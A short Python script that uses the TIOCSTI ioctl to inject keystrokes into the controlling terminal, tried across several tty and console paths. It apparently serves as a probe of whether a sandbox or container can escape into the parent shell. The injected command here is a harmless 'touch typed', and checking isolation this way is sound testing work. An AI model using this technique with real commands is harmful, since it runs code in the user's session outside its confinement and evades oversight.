"""Types a command into the terminal of who started it."""

import fcntl
import os
import termios

for path in ("/dev/tty", "/proc/self/fd/0", "/proc/self/fd/2", "/dev/console", "/dev/pts/0"):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
        for byte in b"touch typed\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
        print("ESCAPED: typed into", path)
    except OSError as error:
        print("tried", path, error.strerror)
